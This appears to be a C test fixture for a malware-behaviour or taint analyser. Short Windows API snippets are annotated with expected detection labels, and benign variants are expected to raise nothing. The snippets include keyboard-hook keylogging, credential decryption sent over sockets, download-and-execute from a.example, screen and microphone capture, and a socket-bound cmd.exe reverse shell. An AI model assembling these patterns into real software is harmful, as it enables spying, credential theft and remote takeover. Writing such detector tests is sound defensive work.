#include <windows.h>
#include <wininet.h>
#include <winhttp.h>
#include <stdlib.h>
#include <sys/socket.h>

void by_remote_name(int s) {
    char name[64], buf[64];
    unsigned long n;
    recv(s, name, sizeof name, 0);
    HANDLE h = CreateFileA(name, GENERIC_READ, 0, NULL, OPEN_EXISTING, 0, NULL); //~ capability(FILES)
    ReadFile(h, buf, sizeof buf, &n, NULL); //~ source(FILE) w900
    send(s, buf, 64, 0); //~ sink(egress.socket) w900, finding(remote-directed-file-collection, traced) w900
}

void opened_only(void) {
    HANDLE h = CreateFileA("x", GENERIC_READ, 0, NULL, OPEN_EXISTING, 0, NULL); //~ ok
}

void sent_ReadFile_1(HANDLE h, int s) {
    char buf[64];
    ReadFile(h, buf, sizeof buf, NULL, NULL); //~ source(FILE) w1, capability(FILES)
    send(s, buf, 10, 0); //~ sink(egress.socket) w1, finding(traced) w1
}

void kept_ReadFile_1(HANDLE h) {
    char buf[64];
    ReadFile(h, buf, sizeof buf, NULL, NULL); //~ ok
}

void sent_MapViewOfFile_2(HANDLE h, int s) {
    char *view = MapViewOfFile(h, 4, 0, 0, 0); //~ source(FILE) w2, capability(FILES)
    send(s, view, 10, 0); //~ sink(egress.socket) w2, finding(traced) w2
}

void kept_MapViewOfFile_2(HANDLE h) {
    char *view = MapViewOfFile(h, 4, 0, 0, 0); //~ ok
}

void out_WriteFile_3(HANDLE h, int s) {
    char line[64];
    recv(s, line, sizeof line, 0); //~ source(NETWORK) w3
    WriteFile(h, line, 4, NULL, NULL); //~ sink(file.write) w3, finding(traced) w3, capability(FILE_WRITE)
}

void quiet_WriteFile_3(HANDLE h) {
    WriteFile(h, "ping", 4, NULL, NULL); //~ ok
}

void sent_FindFirstFile_4(int s) {
    WIN32_FIND_DATA found;
    FindFirstFileA("C:/*", &found); //~ source(FILE_META) w4, capability(FILES)
    send(s, found.cFileName, 10, 0); //~ sink(egress.socket) w4, finding(traced) w4
}

void kept_FindFirstFile_4(void) {
    WIN32_FIND_DATA found;
    FindFirstFileA("C:/*", &found); //~ ok
}

void sent_RegQueryValueEx_5(HKEY k, int s) {
    char value[64];
    RegQueryValueExA(k, "x", NULL, NULL, value, NULL); //~ source(REGISTRY) w5, capability(REGISTRY)
    send(s, value, 10, 0); //~ sink(egress.socket) w5, finding(traced) w5
}

void kept_RegQueryValueEx_5(HKEY k) {
    char value[64];
    RegQueryValueExA(k, "x", NULL, NULL, value, NULL); //~ ok
}

void sent_RegGetValue_6(HKEY k, int s) {
    char value[64];
    RegGetValueA(k, "x", "y", 2, NULL, value, NULL); //~ source(REGISTRY) w6, capability(REGISTRY)
    send(s, value, 10, 0); //~ sink(egress.socket) w6, finding(traced) w6
}

void kept_RegGetValue_6(HKEY k) {
    char value[64];
    RegGetValueA(k, "x", "y", 2, NULL, value, NULL); //~ ok
}

void sent_RegEnumValueA_7(HKEY k, int s) {
    char name[64];
    RegEnumKeyExA(k, 0, name, NULL, NULL, NULL, NULL, NULL); //~ source(REGISTRY) w7, capability(REGISTRY)
    send(s, name, 10, 0); //~ sink(egress.socket) w7, finding(traced) w7
}

void kept_RegEnumValueA_7(HKEY k) {
    char name[64];
    RegEnumKeyExA(k, 0, name, NULL, NULL, NULL, NULL, NULL); //~ ok
}

void out_HttpSendRequest_8(HINTERNET h) {
    char *line = getenv("HOME"); //~ source(ENVIRONMENT) w8
    HttpSendRequestA(h, NULL, 0, line, 4); //~ sink(egress.http) w8, finding(traced) w8, capability(NETWORK)
}

void quiet_HttpSendRequest_8(HINTERNET h) {
    HttpSendRequestA(h, NULL, 0, "ping", 4); //~ ok
}

void out_HttpAddRequestHeadersA_9(HINTERNET h) {
    char *line = getenv("HOME"); //~ source(ENVIRONMENT) w9
    HttpAddRequestHeadersA(h, line, 4, 0); //~ sink(egress.http) w9, finding(traced) w9, capability(NETWORK)
}

void quiet_HttpAddRequestHeadersA_9(HINTERNET h) {
    HttpAddRequestHeadersA(h, "ping", 4, 0); //~ ok
}

void out_InternetOpenUrl_10(HINTERNET h) {
    char *line = getenv("HOME"); //~ source(ENVIRONMENT) w10
    InternetOpenUrlA(h, line, NULL, 0, 0, 0); //~ sink(egress.http) w10, finding(traced) w10, capability(NETWORK)
}

void quiet_InternetOpenUrl_10(HINTERNET h) {
    InternetOpenUrlA(h, "http://a.example/", NULL, 0, 0, 0); //~ ok
}

void out_InternetWriteFile_11(HINTERNET h) {
    char *line = getenv("HOME"); //~ source(ENVIRONMENT) w11
    InternetWriteFile(h, line, 4, NULL); //~ sink(egress.http) w11, finding(traced) w11, capability(NETWORK)
}

void quiet_InternetWriteFile_11(HINTERNET h) {
    InternetWriteFile(h, "ping", 4, NULL); //~ ok
}

void in_InternetReadFile_12(HINTERNET h) {
    char buf[64];
    InternetReadFile(h, buf, sizeof buf, NULL); //~ source(NETWORK) w12, capability(NETWORK)
    system(buf); //~ sink(exec.command) w12, finding(traced) w12
}

void dropped_InternetReadFile_12(HINTERNET h) {
    char buf[64];
    InternetReadFile(h, buf, sizeof buf, NULL); //~ ok
}

void joined(HINTERNET h) {
    InternetConnectA(h, "files.vendor.example", 443, NULL, NULL, 3, 0, 0); //~ capability(NETWORK)
    InternetConnectA(h, "files.vendor.example", 443, NULL, NULL, 3, 0, 0); //~ ok
}

void out_WinHttpSendRequest_13(HINTERNET h) {
    char *line = getenv("HOME"); //~ source(ENVIRONMENT) w13
    WinHttpSendRequest(h, NULL, 0, line, 4, 4, 0); //~ sink(egress.http) w13, finding(traced) w13, capability(NETWORK)
}

void quiet_WinHttpSendRequest_13(HINTERNET h) {
    WinHttpSendRequest(h, NULL, 0, "ping", 4, 4, 0); //~ ok
}

void out_WinHttpWriteData_14(HINTERNET h) {
    char *line = getenv("HOME"); //~ source(ENVIRONMENT) w14
    WinHttpWriteData(h, line, 4, NULL); //~ sink(egress.http) w14, finding(traced) w14, capability(NETWORK)
}

void quiet_WinHttpWriteData_14(HINTERNET h) {
    WinHttpWriteData(h, "ping", 4, NULL); //~ ok
}

void out_WinHttpAddRequestHeaders_15(HINTERNET h) {
    char *line = getenv("HOME"); //~ source(ENVIRONMENT) w15
    WinHttpAddRequestHeaders(h, line, 4, 0); //~ sink(egress.http) w15, finding(traced) w15, capability(NETWORK)
}

void quiet_WinHttpAddRequestHeaders_15(HINTERNET h) {
    WinHttpAddRequestHeaders(h, "ping", 4, 0); //~ ok
}

void in_WinHttpReadData_16(HINTERNET h) {
    char buf[64];
    WinHttpReadData(h, buf, sizeof buf, NULL); //~ source(NETWORK) w16, capability(NETWORK)
    system(buf); //~ sink(exec.command) w16, finding(traced) w16
}

void dropped_WinHttpReadData_16(HINTERNET h) {
    char buf[64];
    WinHttpReadData(h, buf, sizeof buf, NULL); //~ ok
}

void out_FtpPutFile_17(HINTERNET h) {
    char *line = getenv("HOME"); //~ source(ENVIRONMENT) w17
    FtpPutFileA(h, "x", line, 0, 0); //~ sink(egress.ftp) w17, finding(traced) w17, capability(NETWORK)
}

void quiet_FtpPutFile_17(HINTERNET h) {
    FtpPutFileA(h, "x", "ping", 0, 0); //~ ok
}

void out_WSASend_18(int sock, WSABUF *b) {
    char *line = getenv("HOME"); //~ source(ENVIRONMENT) w18
    b->buf = line; WSASend(sock, b, 1, NULL, 0, NULL, NULL); //~ sink(egress.socket) w18, finding(traced) w18, capability(NETWORK)
}

void quiet_WSASend_18(int sock, WSABUF *b) {
    b->buf = "ping"; WSASend(sock, b, 1, NULL, 0, NULL, NULL); //~ ok
}

void in_WSARecv_19(int sock, WSABUF *b) {
    char buf[64];
    WSARecv(sock, b, 1, NULL, NULL, NULL, NULL); //~ source(NETWORK) w19, capability(NETWORK)
    system(b->buf); //~ sink(exec.command) w19, finding(traced) w19
}

void dropped_WSARecv_19(int sock, WSABUF *b) {
    char buf[64];
    WSARecv(sock, b, 1, NULL, NULL, NULL, NULL); //~ ok
}

void sent_GetAsyncKeyState_20(int s) {
    short key = GetAsyncKeyState(65); //~ source(KEYSTROKE) w20, capability(KEYBOARD)
    send(s, &key, 10, 0); //~ sink(egress.socket) w20, finding(traced) w20
}

void kept_GetAsyncKeyState_20(void) {
    short key = GetAsyncKeyState(65); //~ ok
}

void sent_GetKeyboardState_21(int s) {
    unsigned char keys[256];
    GetKeyboardState(keys); //~ source(KEYSTROKE) w21, capability(KEYBOARD)
    send(s, keys, 10, 0); //~ sink(egress.socket) w21, finding(traced) w21
}

void kept_GetKeyboardState_21(void) {
    unsigned char keys[256];
    GetKeyboardState(keys); //~ ok
}

void sent_GetRawInputData_22(void *h, int s) {
    char raw[64];
    GetRawInputData(h, 1, raw, NULL, 8); //~ source(KEYSTROKE) w22, capability(KEYBOARD)
    send(s, raw, 10, 0); //~ sink(egress.socket) w22, finding(traced) w22
}

void kept_GetRawInputData_22(void *h) {
    char raw[64];
    GetRawInputData(h, 1, raw, NULL, 8); //~ ok
}

void sent_GetWindowTextA_23(HWND h, int s) {
    char title[64];
    GetWindowTextA(h, title, 64); //~ source(PROCESS) w23, capability(PROCESSES)
    send(s, title, 10, 0); //~ sink(egress.socket) w23, finding(traced) w23
}

void kept_GetWindowTextA_23(HWND h) {
    char title[64];
    GetWindowTextA(h, title, 64); //~ ok
}

static LRESULT on_key(int code, WPARAM key, LPARAM data) {
    KBDLLHOOKSTRUCT *event = (KBDLLHOOKSTRUCT *)data;
    int sock = socket(2, 1, 0);
    send(sock, &event->vkCode, 4, 0); //~ sink(egress.socket) w901, finding(keystroke-capture, traced) w901
    return 0;
}

void hooked(void) {
    SetWindowsHookExA(WH_KEYBOARD_LL, on_key, NULL, 0); //~ source(KEYSTROKE) w901, capability(KEYBOARD)
}

static LRESULT on_quiet(int code, WPARAM key, LPARAM data) {
    return 0;
}

void hooked_quiet(void) {
    SetWindowsHookExA(WH_KEYBOARD_LL, on_quiet, NULL, 0); //~ ok
}

void sent_BitBlt_24(HDC to, HDC from, int s) {
    BitBlt(to, 0, 0, 10, 10, from, 0, 0, SRCCOPY); //~ source(SCREEN) w24, capability(SCREEN)
    send(s, to, 10, 0); //~ sink(egress.socket) w24, finding(traced) w24
}

void kept_BitBlt_24(HDC to, HDC from) {
    BitBlt(to, 0, 0, 10, 10, from, 0, 0, SRCCOPY); //~ ok
}

void passed_GetDIBits_25(HDC dc, void *bits, int s) {
    char *secret = getenv("HOME"); //~ source(ENVIRONMENT) w25
    GetDIBits(dc, secret, 0, 10, bits, NULL, 0);
    send(s, bits, 10, 0); //~ sink(egress.socket) w25, finding(traced) w25
}

void plain_GetDIBits_25(HDC dc, void *bits) {
    GetDIBits(dc, NULL, 0, 10, bits, NULL, 0); //~ ok
}

void sent_GetClipboardData_26(int s) {
    char *clip = GetClipboardData(CF_TEXT); //~ source(CLIPBOARD) w26, capability(CLIPBOARD)
    send(s, clip, 10, 0); //~ sink(egress.socket) w26, finding(traced) w26
}

void kept_GetClipboardData_26(void) {
    char *clip = GetClipboardData(CF_TEXT); //~ ok
}

void out_CreateProcess_27(int s) {
    char line[64];
    recv(s, line, sizeof line, 0); //~ source(NETWORK) w27
    CreateProcessA(NULL, line, NULL, NULL, 0, 0, NULL, NULL, NULL, NULL); //~ sink(exec.command) w27, finding(traced) w27, capability(EXEC)
}

void quiet_CreateProcess_27(void) {
    CreateProcessA(NULL, "ping", NULL, NULL, 0, 0, NULL, NULL, NULL, NULL); //~ ok
}

void out_WinExec_28(int s) {
    char line[64];
    recv(s, line, sizeof line, 0); //~ source(NETWORK) w28
    WinExec(line, 0); //~ sink(exec.command) w28, finding(traced) w28, capability(EXEC)
}

void quiet_WinExec_28(void) {
    WinExec("ping", 0); //~ ok
}

void out_ShellExecute_29(int s) {
    char line[64];
    recv(s, line, sizeof line, 0); //~ source(NETWORK) w29
    ShellExecuteA(NULL, "open", line, NULL, NULL, 0); //~ sink(exec.command) w29, finding(traced) w29, capability(EXEC)
}

void quiet_ShellExecute_29(void) {
    ShellExecuteA(NULL, "open", "ping", NULL, NULL, 0); //~ ok
}

void out_LoadLibrary_30(int s) {
    char line[64];
    recv(s, line, sizeof line, 0); //~ source(NETWORK) w30
    LoadLibraryA(line); //~ sink(exec.load) w30, finding(traced) w30, capability(DYNAMIC_CODE)
}

void quiet_LoadLibrary_30(void) {
    LoadLibraryA("ping"); //~ ok
}

void out_CreateRemoteThread_31(HANDLE h, void *to, int s) {
    char line[64];
    recv(s, line, sizeof line, 0); //~ source(NETWORK) w31
    WriteProcessMemory(h, to, line, 4, NULL); //~ sink(exec.code) w31, finding(traced) w31, capability(MEMORY)
}

void quiet_CreateRemoteThread_31(HANDLE h, void *to) {
    WriteProcessMemory(h, to, "ping", 4, NULL); //~ ok
}

void sent_GetComputerName_32(int s) {
    char name[64];
    GetComputerNameA(name, NULL); //~ source(DEVICE) w32, capability(DEVICE)
    send(s, name, 10, 0); //~ sink(egress.socket) w32, finding(traced) w32
}

void kept_GetComputerName_32(void) {
    char name[64];
    GetComputerNameA(name, NULL); //~ ok
}

void sent_GetVolumeInformationA_33(int s) {
    unsigned long serial;
    GetVolumeInformationA("C:/", NULL, 0, &serial, NULL, NULL, NULL, 0); //~ source(DEVICE) w33, capability(DEVICE)
    send(s, &serial, 10, 0); //~ sink(egress.socket) w33, finding(traced) w33
}

void kept_GetVolumeInformationA_33(void) {
    unsigned long serial;
    GetVolumeInformationA("C:/", NULL, 0, &serial, NULL, NULL, NULL, 0); //~ ok
}

void sent_GetAdaptersInfo_34(int s) {
    char adapters[64];
    GetAdaptersInfo(adapters, NULL); //~ source(DEVICE) w34, capability(DEVICE)
    send(s, adapters, 10, 0); //~ sink(egress.socket) w34, finding(traced) w34
}

void kept_GetAdaptersInfo_34(void) {
    char adapters[64];
    GetAdaptersInfo(adapters, NULL); //~ ok
}

void sent_GetUserName_35(int s) {
    char name[64];
    GetUserNameA(name, NULL); //~ source(USER) w35, capability(DEVICE)
    send(s, name, 10, 0); //~ sink(egress.socket) w35, finding(traced) w35
}

void kept_GetUserName_35(void) {
    char name[64];
    GetUserNameA(name, NULL); //~ ok
}

void sent_GetEnvironmentVariableA_36(int s) {
    char value[64];
    GetEnvironmentVariableA("PATH", value, 64); //~ source(ENVIRONMENT) w36, capability(ENVIRONMENT)
    send(s, value, 10, 0); //~ sink(egress.socket) w36, finding(traced) w36
}

void kept_GetEnvironmentVariableA_36(void) {
    char value[64];
    GetEnvironmentVariableA("PATH", value, 64); //~ ok
}

void sent_CryptUnprotectData_37(DATA_BLOB *in, int s) {
    DATA_BLOB clear;
    CryptUnprotectData(in, NULL, NULL, NULL, NULL, 0, &clear); //~ source(CREDENTIAL) w37, capability(CREDENTIALS)
    send(s, clear.pbData, 10, 0); //~ sink(egress.socket) w37, finding(traced) w37
}

void kept_CryptUnprotectData_37(DATA_BLOB *in) {
    DATA_BLOB clear;
    CryptUnprotectData(in, NULL, NULL, NULL, NULL, 0, &clear); //~ ok
}

void sent_CredReadA_38(int s) {
    void *cred;
    CredReadA("x", 1, 0, &cred); //~ source(CREDENTIAL) w38, capability(CREDENTIALS)
    send(s, cred, 10, 0); //~ sink(egress.socket) w38, finding(traced) w38
}

void kept_CredReadA_38(void) {
    void *cred;
    CredReadA("x", 1, 0, &cred); //~ ok
}

void sent_LsaRetrievePrivateData_39(void *h, int s) {
    void *data;
    LsaRetrievePrivateData(h, "x", &data); //~ source(CREDENTIAL) w39, capability(CREDENTIALS)
    send(s, data, 10, 0); //~ sink(egress.socket) w39, finding(traced) w39
}

void kept_LsaRetrievePrivateData_39(void *h) {
    void *data;
    LsaRetrievePrivateData(h, "x", &data); //~ ok
}

void sent_ReadProcessMemory_40(HANDLE h, void *at, int s) {
    char buf[64];
    ReadProcessMemory(h, at, buf, 64, NULL); //~ source(MEMORY) w40, capability(MEMORY)
    send(s, buf, 10, 0); //~ sink(egress.socket) w40, finding(traced) w40
}

void kept_ReadProcessMemory_40(HANDLE h, void *at) {
    char buf[64];
    ReadProcessMemory(h, at, buf, 64, NULL); //~ ok
}

void sent_Process32First_41(HANDLE h, int s) {
    PROCESSENTRY32 entry;
    Process32First(h, &entry); //~ source(PROCESS) w41, capability(PROCESSES)
    send(s, entry.szExeFile, 10, 0); //~ sink(egress.socket) w41, finding(traced) w41
}

void kept_Process32First_41(HANDLE h) {
    PROCESSENTRY32 entry;
    Process32First(h, &entry); //~ ok
}

void sent_waveInAddBuffer_42(HWAVEIN h, int s) {
    WAVEHDR head;
    waveInAddBuffer(h, &head, 10); //~ source(AUDIO) w42, capability(MICROPHONE)
    send(s, head.lpData, 10, 0); //~ sink(egress.socket) w42, finding(traced) w42
}

void kept_waveInAddBuffer_42(HWAVEIN h) {
    WAVEHDR head;
    waveInAddBuffer(h, &head, 10); //~ ok
}

void passed_MultiByteToWideChar_43(wchar_t *out, int s) {
    char *secret = getenv("HOME"); //~ source(ENVIRONMENT) w43
    MultiByteToWideChar(0, 0, secret, 4, out, 64);
    send(s, out, 10, 0); //~ sink(egress.socket) w43, finding(traced) w43
}

void plain_MultiByteToWideChar_43(wchar_t *out) {
    MultiByteToWideChar(0, 0, "ping", 4, out, 64); //~ ok
}

void passed_lstrcpyA_44(char *out, int s) {
    char *secret = getenv("HOME"); //~ source(ENVIRONMENT) w44
    lstrcpyA(out, secret);
    send(s, out, 10, 0); //~ sink(egress.socket) w44, finding(traced) w44
}

void plain_lstrcpyA_44(char *out) {
    lstrcpyA(out, "ping"); //~ ok
}

void passed_wsprintfA_45(char *out, int s) {
    char *secret = getenv("HOME"); //~ source(ENVIRONMENT) w45
    wsprintfA(out, "%s", secret);
    send(s, out, 10, 0); //~ sink(egress.socket) w45, finding(traced) w45
}

void plain_wsprintfA_45(char *out) {
    wsprintfA(out, "%s", "ping"); //~ ok
}

void found(void *h) {
    void *f = GetProcAddress(h, "x"); //~ capability(DYNAMIC_CODE)
    void *g = GetProcAddress(h, "y"); //~ ok
}

void fetched(void) {
    char path[] = "C:/x.exe";
    URLDownloadToFileA(NULL, "http://a.example/x", path, 0, NULL); //~ source(NETWORK) w902, capability(NETWORK)
    WinExec(path, 0); //~ sink(exec.command) w902, finding(download-and-execute, traced) w902
}

void fetched_only(void) {
    char path[] = "C:/x.txt";
    URLDownloadToFileA(NULL, "http://a.example/x", path, 0, NULL); //~ ok
}

void mapped_CreateFileMapping_60(int s) {
    HANDLE file = CreateFileA("x", GENERIC_READ, 0, NULL, OPEN_EXISTING, 0, NULL);
    WriteFile(file, getenv("A"), 4, NULL, NULL); //~ source(ENVIRONMENT) w60, sink(file.write)
    HANDLE mapping = CreateFileMappingW(file, NULL, 2, 0, 0, NULL);
    char *view = MapViewOfFile(mapping, 4, 0, 0, 0); //~ source(FILE) w61
    send(s, view, 10, 0); //~ sink(egress.socket) w60, sink(egress.socket) w61, finding(environment-exfiltration, traced) w60, finding(file-upload, traced) w61
}

void mapped_only_CreateFileMapping_60(HANDLE file) {
    HANDLE mapping = CreateFileMappingW(file, NULL, 2, 0, 0, NULL); //~ ok
}

void copied_CopyFile_62(void) {
    char line[64];
    char part[] = "fetched-62", done[] = "started-62";
    HANDLE file = CreateFileA(part, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL);
    recv(3, line, sizeof line, 0); //~ source(NETWORK) w62
    WriteFile(file, line, 4, NULL, NULL); //~ sink(file.write) w62, finding(download-to-file, traced) w62
    CopyFileA(part, done, 0); //~ capability(FILE_WRITE)
    WinExec(done, 0); //~ sink(exec.command) w62, finding(download-and-execute, traced) w62
}

void copied_other_CopyFile_62(void) {
    CopyFileA("a-62", "b-62", 0); //~ ok
    WinExec("b-62", 0); //~ ok
}

void printed_CreatePipe_64(int s) {
    HANDLE out, in;
    char line[64];
    CreatePipe(&out, &in, NULL, 0); //~ source(COMMAND_OUTPUT) w64, capability(IPC)
    ReadFile(out, line, sizeof line, NULL, NULL); //~ source(FILE) w67
    send(s, line, 64, 0); //~ sink(egress.socket) w64, sink(egress.socket) w67, finding(command-output-exfiltration, traced) w64, finding(file-upload, traced) w67
}

void opened_CreatePipe_64(int s) {
    HANDLE out, in;
    CreatePipe(&out, &in, NULL, 0); //~ ok
}

void drawn_CreateDIBSection_65(HDC screen, int s) {
    char *bits;
    HDC dc = CreateCompatibleDC(screen);
    HBITMAP bitmap = CreateDIBSection(screen, NULL, 0, (void **)&bits, NULL, 0);
    SelectObject(dc, bitmap);
    BitBlt(dc, 0, 0, 9, 9, screen, 0, 0, SRCCOPY); //~ source(SCREEN) w65
    send(s, bits, 64, 0); //~ sink(egress.socket) w65, finding(screen-capture, traced) w65
}

void empty_CreateDIBSection_65(HDC screen, int s) {
    char *bits;
    HBITMAP bitmap = CreateDIBSection(screen, NULL, 0, (void **)&bits, NULL, 0); //~ ok
    send(s, bits, 64, 0); //~ ok
}

// A pipe is written at one end and read at the other.
void talked_WriteFile_66(HANDLE pipe, int s) {
    char line[64];
    WriteFile(pipe, getenv("A"), 4, NULL, NULL);
    ReadFile(pipe, line, sizeof line, NULL, NULL); //~ source(FILE) w66
    send(s, line, 64, 0); //~ sink(egress.socket) w66, finding(file-upload, traced) w66
}

void sent_asked_for(SOCKET s) {
    char pressed[2] = {0, 0};
    for (int key = 8; key < 191; key++)
        if (GetAsyncKeyState(key) & 1) { //~ source(KEYSTROKE) ask1
            pressed[0] = (char)key;
            send(s, pressed, 1, 0); //~ sink(egress.socket) ask1, finding(keystroke-capture, traced) ask1
        }
}

void kept_asked_for(SOCKET s) {
    for (int key = 8; key < 191; key++)
        if (GetAsyncKeyState(key) & 1) send(s, "x", 1, 0); //~ ok
}

void connection_as_input(struct sockaddr *to)
{
    SOCKET s = WSASocketA(2, 1, 6, 0, 0, 0); //~ source(NETWORK) wshell
    STARTUPINFOA si;
    WSAConnect(s, to, 16, 0, 0, 0, 0);
    si.hStdInput = si.hStdOutput = si.hStdError = (HANDLE)s;
    CreateProcessA(0, "cmd.exe", 0, 0, 1, 0, 0, 0, &si, 0); //~ sink(exec.command) wshell, finding(traced) wshell, capability(EXEC)
}

void pipe_as_input(void)
{
    HANDLE r, w;
    STARTUPINFOA si;
    CreatePipe(&r, &w, 0, 0);
    si.hStdInput = r;
    CreateProcessA(0, "cmd.exe", 0, 0, 1, 0, 0, 0, &si, 0); //~ ok
}
